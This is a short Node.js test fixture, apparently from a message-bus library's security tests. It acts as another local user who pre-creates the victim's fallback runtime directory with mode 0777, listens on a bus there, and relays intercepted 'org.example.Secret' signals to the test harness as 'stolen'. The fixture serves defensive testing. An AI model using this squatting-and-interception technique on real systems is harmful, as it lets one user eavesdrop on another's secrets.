// Another user's process that makes the victim's fallback runtime directory first (mode 0777, a bus inside) and listens.
import { chmodSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { connect } from '../../../packages/bus/dist/core/index.js';

const dir = process.argv[2];
mkdirSync(dir, { mode: 0o777 });
chmodSync(dir, 0o777);
const conn = await connect({ address: `ipnbus:path=${join(dir, 'session')}`, mode: 0o777, backend: 'user' });
conn.addMatch("type='signal',interface='org.example.Secret'");
conn.on('message', (msg) => {
  if (msg.interface === 'org.example.Secret') process.send({ type: 'stolen', body: msg.body });
});
process.send({ type: 'ready', uid: process.getuid() });
process.on('disconnect', () => {
  conn.disconnect();
  process.exit(0);
});
